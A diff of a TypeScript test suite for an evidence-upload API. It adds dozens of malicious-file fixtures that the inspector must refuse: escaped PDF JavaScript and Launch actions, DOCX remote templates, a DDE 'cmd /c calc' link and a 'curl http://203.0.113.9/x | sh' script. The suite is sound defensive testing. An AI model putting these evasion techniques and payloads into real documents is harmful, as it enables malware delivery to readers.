@@ -1,8 +1,35 @@
 import { EVENT_STORE } from '../libs/application/src';
 import type { EventStore } from '../libs/event-store/src';
 import { ContentStore } from '../libs/evidence/src';
+import { existsSync, readFileSync } from 'node:fs';
+import { request as httpRequest, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import request from 'supertest';
 import { join } from 'node:path';
-import { startApi, type ApiHarness, type Client } from './api-harness';
+import { startApi, USER_PASSWORD, type ApiHarness, type Client } from './api-harness';
+import { deflateSync } from 'node:zlib';
+import {
+  biff,
+  boundSheet,
+  compressible,
+  objectStream,
+  officePackage,
+  ordinaryPdf,
+  oleFile,
+  oleStream,
+  packagerObject,
+  pdfStream,
+  pdfWith,
+  peExecutable,
+  pptRecord,
+  realDocx,
+  realPng,
+  realPptx,
+  realXlsx,
+  rel,
+  relationships,
+  vbaStorage,
+} from './fixtures/evidence-bypasses';
 import { EICAR, jpeg, multipart, ole, ooxml, pdf, png, renameEntry, zip } from './fixtures/evidence-files';
 
 const LIMIT = 1_000_000;
@@ -420,11 +447,599 @@ describe('evidence uploads (佐证材料)', () => {
     },
   ];
 
-  it('has a corpus of at least 50 bad uploads', () => {
+  const js: [number, string][] = [[9, '<< /S /JavaScript /JS (app.launchURL("http://203.0.113.9/")) >>']];
+  const docxWith = (options: Parameters<typeof officePackage>[1]) => async () =>
+    file('报告.docx', await officePackage('docx', options));
+  const xlsxWith = (options: Parameters<typeof officePackage>[1]) => async () =>
+    file('台账.xlsx', await officePackage('xlsx', options));
+  const settingsRels = (...items: string[]) => ({
+    parts: [{ name: 'word/_rels/settings.xml.rels', content: relationships(items) }],
+  });
+  const objectPool = (streams: Record<string, Buffer | string>) =>
+    Object.fromEntries(Object.entries(streams).map(([k, v]) => [`ObjectPool/_1234/${k}`, v]));
+
+  /** Bypasses of the old inspector (issue 12) and variants of each class (ADR 0012). */
+  const BYPASSES: Case[] = [
+    // PDF: names written with #xx escapes, content in object streams, actions the old filter ignored.
+    {
+      name: 'a PDF whose /JavaScript is written /J#61vaScript',
+      build: () => file('a.pdf', pdfWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>')),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF whose /Launch is written /L#61unch',
+      build: () => file('a.pdf', pdfWith('/OpenAction << /S /L#61unch /F (cmd.exe) >>')),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF with JavaScript inside a compressed object stream',
+      build: () => file('a.pdf', pdfWith('/Names 9 0 R', [objectStream(js)])),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF with an object stream encoded ASCIIHex then Flate',
+      build: () =>
+        file(
+          'a.pdf',
+          pdfWith('', [
+            objectStream(js, {
+              filter: '[/AHx /Fl]',
+              encode: (d) => Buffer.from(`${deflateSync(d).toString('hex')}>`, 'latin1'),
+            }),
+          ]),
+        ),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF with an object stream under a PNG predictor',
+      build: () =>
+        file(
+          'a.pdf',
+          pdfWith('', [
+            objectStream(js, {
+              extra: '/DecodeParms << /Predictor 12 /Columns 8 >>',
+              encode: (d) => {
+                const rows: Buffer[] = [];
+                for (let i = 0; i < d.length; i += 8) {
+                  const row = Buffer.alloc(8);
+                  d.copy(row, 0, i, i + 8);
+                  rows.push(Buffer.from([0]), row);
+                }
+                return deflateSync(Buffer.concat(rows));
+              },
+            }),
+          ]),
+        ),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF object stream without /Type, its filter name escaped',
+      build: () =>
+        file('a.pdf', pdfWith('', [objectStream(js, { type: '/Obj#53tm', filter: '/Fl#61teDecode' })])),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF with an embedded file named in an object stream',
+      build: () =>
+        file(
+          'a.pdf',
+          pdfWith('/Names 9 0 R', [
+            objectStream([[9, '<< /Embedded#46iles << /Names [(a.exe) 10 0 R] >> >>']]),
+          ]),
+        ),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF that opens a URL when opened (/OpenAction with a URI action)',
+      build: () => file('a.pdf', pdfWith('/OpenAction << /S /URI /URI (http://203.0.113.9/track) >>')),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF whose /OpenAction refers to an action object',
+      build: () => file('a.pdf', pdfWith('/OpenAction 6 0 R', ['<< /Type /Action /S /Named /N /Print >>'])),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF with page additional actions (/AA)',
+      build: () => file('a.pdf', pdfWith('/AA << /WC << /S /Named /N /Quit >> >>')),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF with a RichMedia annotation (escaped)',
+      build: () => file('a.pdf', pdfWith('', ['<< /Type /Annot /Subtype /Rich#4Dedia /Rect [0 0 1 1] >>'])),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF with an XFA form',
+      build: () => file('a.pdf', pdfWith('/AcroForm << /Fields [] /XFA 6 0 R >>', ['<< >>'])),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF that opens a remote file (GoToR)',
+      build: () =>
+        file(
+          'a.pdf',
+          pdfWith('', [
+            '<< /Type /Annot /Subtype /Link /A << /S /GoToR /F (\\\\\\\\203.0.113.9\\\\s\\\\x.pdf) >> >>',
+          ]),
+        ),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF form that submits itself to a server',
+      build: () =>
+        file('a.pdf', pdfWith('', ['<< /FT /Btn /A << /S /SubmitForm /F (http://203.0.113.9/) >> >>'])),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PDF with an action object hidden inside another stream',
+      build: () =>
+        file(
+          'a.pdf',
+          pdfWith('', [pdfStream('', '6 0 obj << /Type /Action /S /GoToE /T << /R /C >> >> endobj')]),
+        ),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'an encrypted PDF with object streams',
+      build: () =>
+        file(
+          'a.pdf',
+          pdfWith(
+            '',
+            [
+              pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.alloc(64, 0x5a)),
+              '<< /Filter /Standard /V 1 /R 2 /P -4 /O <00> /U <00> >>',
+            ],
+            '/Root 1 0 R /Encrypt 7 0 R',
+          ),
+        ),
+      status: 422,
+      code: 'encrypted-file',
+    },
+    {
+      name: 'a PDF object stream that inflates to 130 MB',
+      build: () =>
+        file(
+          'a.pdf',
+          pdfWith('', [
+            pdfStream(
+              '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
+              deflateSync(Buffer.alloc(130 * 1024 * 1024), { level: 9 }),
+            ),
+          ]),
+        ),
+      status: 422,
+      code: 'zip-bomb',
+    },
+    {
+      name: 'a PDF object stream in a filter that cannot be inspected',
+      build: () =>
+        file('a.pdf', pdfWith('', [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /JBIG2Decode', 'xxxx')])),
+      status: 422,
+      code: 'damaged-file',
+    },
+    // OOXML: decided by content types and relationships, not by part names.
+    {
+      name: 'a DOCX whose macro part is called styles2.dat (content type override)',
+      build: docxWith({
+        types: '<Override PartName="/word/styles2.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
+        mainRels: [
+          rel('rId7', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'styles2.dat'),
+        ],
+        parts: [{ name: 'word/styles2.dat', content: oleFile(vbaStorage('')) }],
+      }),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOCX whose macro part is typed by a Default extension only',
+      build: docxWith({
+        types: '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>',
+        parts: [{ name: 'word/theme/extra.dat', content: 'x' }],
+      }),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOCM (macro-enabled main part) renamed .docx',
+      build: docxWith({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOCX with a VBA project disguised as an image',
+      build: docxWith({ parts: [{ name: 'word/media/image1.png', content: oleFile(vbaStorage('')) }] }),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'an XLSX with an Excel 4.0 macro sheet',
+      build: xlsxWith({
+        types:
+          '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
+        mainRels: [
+          rel(
+            'rId5',
+            'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
+            'macrosheets/sheet1.xml',
+          ),
+        ],
+        parts: [
+          {
+            name: 'xl/macrosheets/sheet1.xml',
+            content: '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>',
+          },
+        ],
+      }),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOCX with an embedded Packager object (oleObject)',
+      build: docxWith({
+        types:
+          '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
+        mainRels: [rel('rId8', 'oleObject', 'embeddings/oleObject1.bin')],
+        parts: [{ name: 'word/embeddings/oleObject1.bin', content: packagerObject() }],
+      }),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOCX with an oleObject part that is not even an OLE file',
+      build: docxWith({
+        mainRels: [rel('rId8', 'oleObject', 'embeddings/object.dat')],
+        parts: [{ name: 'word/embeddings/object.dat', content: Buffer.alloc(100, 7) }],
+      }),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOCX with an ActiveX control',
+      build: docxWith({
+        types:
+          '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
+        mainRels: [rel('rId9', 'control', 'activeX/activeX1.xml')],
+        parts: [
+          {
+            name: 'word/activeX/activeX1.xml',
+            content: '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
+          },
+        ],
+      }),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOCX that loads a remote template (settings.xml.rels)',
+      build: docxWith(settingsRels(rel('rId1', 'attachedTemplate', 'http://203.0.113.9/normal.dotm', true))),
+      status: 422,
+      code: 'external-reference',
+    },
+    {
+      name: 'a DOCX that loads a remote template over SMB',
+      build: docxWith(settingsRels(rel('rId1', 'attachedTemplate', 'file://203.0.113.9/share/t.dotm', true))),
+      status: 422,
+      code: 'external-reference',
+    },
+    {
+      name: 'a DOCX with a linked remote picture (document.xml.rels)',
+      build: docxWith({ mainRels: [rel('rId5', 'image', 'http://203.0.113.9/pixel.png', true)] }),
+      status: 422,
+      code: 'external-reference',
+    },
+    {
+      name: 'a DOCX with a remote OLE link (document.xml.rels)',
+      build: docxWith({ mainRels: [rel('rId6', 'oleObject', 'http://203.0.113.9/x.rtf', true)] }),
+      status: 422,
+      code: 'external-reference',
+    },
+    {
+      name: 'a DOCX whose web settings load a remote frame',
+      build: docxWith({
+        parts: [
+          {
+            name: 'word/_rels/webSettings.xml.rels',
+            content: relationships([rel('rId1', 'frame', 'http://203.0.113.9/f.html', true)]),
+          },
+        ],
+      }),
+      status: 422,
+      code: 'external-reference',
+    },
+    {
+      name: 'an XLSX with an external (DDE) link part',
+      build: xlsxWith({
+        types:
+          '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
+        parts: [
+          {
+            name: 'xl/externalLinks/externalLink1.xml',
+            content:
+              '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+          },
+        ],
+      }),
+      status: 422,
+      code: 'external-reference',
+    },
+    {
+      name: 'a [Content_Types].xml with a DTD (entity expansion)',
+      build: async () => {
+        const bytes = await officePackage('docx');
+        return file(
+          'a.docx',
+          await zip([
+            {
+              name: '[Content_Types].xml',
+              content:
+                '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">]><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+            },
+            { name: 'word/document.xml', content: `<x>${bytes.length}</x>` },
+          ]),
+        );
+      },
+      status: 422,
+      code: 'damaged-file',
+    },
+    {
+      name: 'a DOCX with two entries of the same name',
+      build: async () =>
+        file(
+          'a.docx',
+          await zip([
+            {
+              name: '[Content_Types].xml',
+              content: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+            },
+            { name: 'word/document.xml', content: '<w:document/>' },
+            { name: 'Word/Document.xml', content: '<w:document/>' },
+          ]),
+        ),
+      status: 422,
+      code: 'damaged-file',
+    },
+    {
+      name: 'a DOCX part with a compression ratio of about 150',
+      build: docxWith({ parts: [{ name: 'word/media/big.bin', content: compressible(8 * 1024 * 1024) }] }),
+      status: 422,
+      code: 'zip-bomb',
+    },
+    {
+      name: 'a DOCX of 2,500 parts',
+      build: docxWith({
+        parts: Array.from({ length: 2500 }, (_, i) => ({
+          name: `customXml/item${i}.xml`,
+          content: 'x',
+          compress: false,
+        })),
+      }),
+      status: 422,
+      code: 'zip-bomb',
+    },
+    // Files inside files.
+    {
+      name: 'a DOCX containing a DOCX with macros',
+      build: async () =>
+        docxWith({
+          parts: [
+            {
+              name: 'word/embeddings/Microsoft_Word_Document.docx',
+              content: await officePackage('docx', {
+                mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
+              }),
+            },
+          ],
+        })(),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOCX containing a ZIP containing a DOCX with a remote template',
+      build: async () =>
+        file(
+          'a.docx',
+          await officePackage('docx', {
+            parts: [
+              {
+                name: 'word/media/archive.zip',
+                content: await zip([
+                  {
+                    name: '资料/模板.docx',
+                    content: await officePackage(
+                      'docx',
+                      settingsRels(rel('rId1', 'attachedTemplate', 'http://203.0.113.9/t.dotm', true)),
+                    ),
+                  },
+                ]),
+              },
+            ],
+          }),
+        ),
+      status: 422,
+      code: 'external-reference',
+    },
+    {
+      name: 'a DOCX containing an XLS with VBA',
+      build: docxWith({
+        parts: [
+          {
+            name: 'word/embeddings/Microsoft_Excel_97-2003_Worksheet.xls',
+            content: ole('Workbook', vbaStorage('_VBA_PROJECT_CUR/')),
+          },
+        ],
+      }),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOCX with EICAR inside a compressed ZIP inside it',
+      build: async () =>
+        docxWith({
+          parts: [{ name: 'word/media/x.zip', content: await zip([{ name: 'readme.txt', content: EICAR }]) }],
+        })(),
+      status: 422,
+      code: 'infected-file',
+    },
+    {
+      name: 'a DOCX with a Windows program inside',
+      build: docxWith({
+        parts: [
+          {
+            name: 'word/media/image2.jpeg',
+            content: peExecutable(),
+          },
+        ],
+      }),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOCX with a shell script inside',
+      build: docxWith({
+        parts: [{ name: 'customXml/item9.xml', content: '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n' }],
+      }),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOCX with ZIPs nested five deep',
+      build: async () => {
+        let inner = await officePackage('docx');
+        for (let i = 0; i < 4; i++) inner = await zip([{ name: `level${i}.zip`, content: inner }]);
+        return file(
+          'a.docx',
+          await officePackage('docx', { parts: [{ name: 'word/media/a.zip', content: inner }] }),
+        );
+      },
+      status: 422,
+      code: 'nesting-too-deep',
+    },
+    // Legacy Office: decided by the OLE storages, not the extension.
+    {
+      name: 'a DOC with a VBA project (Macros storage)',
+      build: () => file('旧文档.doc', ole('WordDocument', vbaStorage('Macros/'))),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'an XLS with a VBA project (_VBA_PROJECT_CUR)',
+      build: () => file('旧表格.xls', ole('Workbook', vbaStorage('_VBA_PROJECT_CUR/'))),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'an XLS with an Excel 4.0 macro sheet',
+      build: () =>
+        file('旧表格.xls', ole('Workbook', { Workbook: biff(boundSheet(0), boundSheet(1, 'Auto_Open')) })),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a PPT with a VBA project record',
+      build: () =>
+        file(
+          '旧演示.ppt',
+          ole('PowerPoint Document', {
+            'PowerPoint Document': pptRecord(
+              0x0f,
+              0x03e8,
+              pptRecord(0x0f, 0x03ff, pptRecord(0x02, 0x0400, Buffer.alloc(12))),
+            ),
+          }),
+        ),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOC with an embedded Packager object',
+      build: () =>
+        file(
+          '旧文档.doc',
+          ole(
+            'WordDocument',
+            objectPool({ '\u0001CompObj': 'x', '\u0001Ole': oleStream(false), '\u0001Ole10Native': 'MZ' }),
+          ),
+        ),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOC with an Equation Editor object',
+      build: () =>
+        file(
+          '旧文档.doc',
+          ole('WordDocument', objectPool({ '\u0001CompObj': 'x', 'Equation Native': Buffer.alloc(40, 8) })),
+        ),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOC with a linked (remote) object',
+      build: () =>
+        file(
+          '旧文档.doc',
+          ole('WordDocument', objectPool({ '\u0001CompObj': 'x', '\u0001Ole': oleStream(true) })),
+        ),
+      status: 422,
+      code: 'external-reference',
+    },
+    {
+      name: 'an XLS protected by a password (FILEPASS)',
+      build: () =>
+        file('旧表格.xls', ole('Workbook', { Workbook: biff([0x002f, Buffer.alloc(6)], boundSheet(0)) })),
+      status: 422,
+      code: 'encrypted-file',
+    },
+    {
+      name: 'a password-protected DOCX (an encrypted OLE package)',
+      build: () =>
+        file(
+          'a.docx',
+          oleFile({ EncryptionInfo: Buffer.alloc(64, 4), EncryptedPackage: Buffer.alloc(600, 9) }),
+        ),
+      status: 422,
+      code: 'encrypted-file',
+    },
+    {
+      name: 'a damaged OLE file that merely mentions WordDocument',
+      build: () =>
+        file(
+          'a.doc',
+          Buffer.concat([
+            Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
+            Buffer.alloc(504, 0xff),
+            Buffer.from('WordDocument', 'utf16le'),
+            Buffer.alloc(512),
+          ]),
+        ),
+      status: 422,
+      code: 'damaged-file',
+    },
+  ];
+
+  it('has a corpus of at least 50 bad uploads, and at least 30 bypasses of the old inspector', () => {
     expect(BAD.length).toBeGreaterThanOrEqual(50);
+    expect(BYPASSES.length).toBeGreaterThanOrEqual(30);
   });
 
-  it.each(BAD.map((c) => [c.name, c] as const))(
+  it.each([...BAD, ...BYPASSES].map((c) => [c.name, c] as const))(
     'refuses %s with Problem Details, storing and writing nothing',
     async (_, c) => {
       const before = { head: await store.headPosition(), files: files.listAll() };
@@ -450,6 +1065,58 @@ describe('evidence uploads (佐证材料)', () => {
     ['XLS', () => file('旧表格.xls', ole('Workbook'))],
     ['PPT', () => file('旧演示.ppt', ole('PowerPoint Document'))],
     ['a file exactly at the limit', () => file('刚好.pdf', pad(pdf(), LIMIT))],
+    [
+      'a PDF as office suites write it (object streams, links, outline)',
+      () => file('年度报告.pdf', ordinaryPdf()),
+    ],
+    [
+      'a PDF whose title mentions /JavaScript in a string (not a name)',
+      () =>
+        file(
+          '说明.pdf',
+          pdf('4 0 obj << /Title (How to turn off /JavaScript and /Launch in readers) >> endobj'),
+        ),
+    ],
+    ['a real PNG', () => file('截图2.png', realPng(320, 200))],
+    [
+      'a DOCX written by the docx library (table, picture, hyperlink)',
+      async () => file('任务总结.docx', await realDocx()),
+    ],
+    [
+      'an XLSX written by ExcelJS (formulas, hyperlink, picture)',
+      async () => file('台账2.xlsx', await realXlsx()),
+    ],
+    ['a PPTX laid out as PowerPoint does', async () => file('汇报2.pptx', await realPptx())],
+    [
+      'a DOCX with an embedded XLSX chart workbook',
+      async () =>
+        file(
+          '含图表.docx',
+          await officePackage('docx', {
+            types:
+              '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
+            mainRels: [rel('rId10', 'package', 'embeddings/Microsoft_Excel_Worksheet.xlsx')],
+            parts: [
+              {
+                name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx',
+                content: await officePackage('xlsx'),
+              },
+            ],
+          }),
+        ),
+    ],
+    [
+      'a DOC with an embedded Excel 97 workbook',
+      () =>
+        file(
+          '含表格.doc',
+          ole('WordDocument', {
+            'ObjectPool/_1/\u0001CompObj': 'x',
+            'ObjectPool/_1/\u0001Ole': oleStream(false),
+            'ObjectPool/_1/Workbook': biff(boundSheet(0)),
+          }),
+        ),
+    ],
     ['a path the browser sent whole', () => file('C:\\Users\\张老师\\Desktop\\证书.pdf', pdf('3'), true)],
   ] as const)('accepts %s', async (_, build) => {
     const res = await send(owner, await build()).expect(201);
@@ -459,6 +1126,14 @@ describe('evidence uploads (佐证材料)', () => {
     });
     expect(files.has(res.body.sha256)).toBe(true);
     expect(res.body.name).not.toContain('\\');
+  });
+
+  const REAL_WORLD = [
+    join(__dirname, '..', '..', 'shared', 'realworld', '建设任务书-武汉船舶职业技术学院.docx'),
+    '/work/shared/realworld/建设任务书-武汉船舶职业技术学院.docx',
+  ].find((path) => existsSync(path));
+  (REAL_WORLD ? it : it.skip)('accepts a real 建设任务书 DOCX (shared/realworld)', async () => {
+    await send(owner, file('建设任务书.docx', readFileSync(REAL_WORLD!))).expect(201);
   });
 
   it('stores identical content once, and serves it only to those who may see the task', async () => {
@@ -515,3 +1190,71 @@ function pad(content: Buffer, size: number): Buffer {
   filler[0] = 0x25;
   return Buffer.concat([content.subarray(0, eof), filler, content.subarray(eof)]);
 }
+
+describe('upload admission', () => {
+  let api: ApiHarness;
+  afterAll(() => api.close());
+
+  it('answers 503 with Retry-After beyond the inspection queue, and admits again once it drains', async () => {
+    api = await startApi({ EVIDENCE_INSPECTIONS: '1', EVIDENCE_INSPECTIONS_QUEUED: '0' });
+    const created = await api.createUser('queue.owner');
+    const taskId = await api.defineTask(await api.createPlan(), created.userId);
+    const token = (
+      await request(api.app.getHttpServer())
+        .post('/api/auth/login')
+        .send({ username: 'queue.owner', password: USER_PASSWORD })
+        .expect(200)
+    ).body.token as string;
+    const server = api.app.getHttpServer() as Server;
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const { port } = server.address() as AddressInfo;
+
+    // The first upload is admitted and holds its place while its body is still arriving.
+    const slow = file('慢.pdf', pdf('5 0 obj << /Title (slow) >> endobj'));
+    const held = httpRequest({
+      host: '127.0.0.1',
+      port,
+      method: 'POST',
+      path: `/api/tasks/${taskId}/evidence`,
+      headers: {
+        Authorization: `Bearer ${token}`,
+        'Content-Type': slow.contentType,
+        'Content-Length': slow.body.length,
+      },
+    });
+    const answered = new Promise<{ status: number; body: string }>((resolve, reject) => {
+      held.on('response', (res) => {
+        let body = '';
+        res.on('data', (c: Buffer) => (body += c.toString()));
+        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
+      });
+      held.on('error', reject);
+    });
+    held.write(slow.body.subarray(0, 100));
+    await new Promise((resolve) => setTimeout(resolve, 1000));
+
+    const before = { head: await api.app.get(EVENT_STORE).headPosition() };
+    const busy = await request(server)
+      .post(`/api/tasks/${taskId}/evidence`)
+      .set('Authorization', `Bearer ${token}`)
+      .set('Content-Type', slow.contentType)
+      .send(file('b.pdf', pdf()).body);
+    expect(busy.status).toBe(503);
+    expect(busy.headers['retry-after']).toBe('10');
+    expect(busy.headers['content-type']).toMatch(/^application\/problem\+json/);
+    expect(busy.body).toMatchObject({
+      code: 'inspection-busy',
+      detail: expect.stringMatching(/稍|秒后重试/),
+    });
+    expect(await api.app.get(EVENT_STORE).headPosition()).toBe(before.head);
+
+    held.end(slow.body.subarray(100));
+    expect((await answered).status).toBe(201);
+    await request(server)
+      .post(`/api/tasks/${taskId}/evidence`)
+      .set('Authorization', `Bearer ${token}`)
+      .set('Content-Type', slow.contentType)
+      .send(file('c.pdf', pdf('6 0 obj << >> endobj')).body)
+      .expect(201);
+  });
+});
